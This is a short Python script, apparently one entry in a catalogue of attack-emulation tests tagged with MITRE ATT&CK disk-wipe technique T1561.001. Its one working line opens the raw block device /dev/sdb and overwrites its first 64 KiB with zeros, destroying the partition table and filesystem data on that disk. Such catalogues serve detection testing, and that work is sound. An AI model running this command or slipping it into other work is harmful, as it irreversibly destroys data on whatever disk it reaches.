#!/usr/bin/env python3
# title: Python overwrites a disk
# technique: T1561.001 T1561
# needs: python3
# disk: yes

open("/dev/sdb", "r+b", buffering=0).write(b"\0" * 65536)
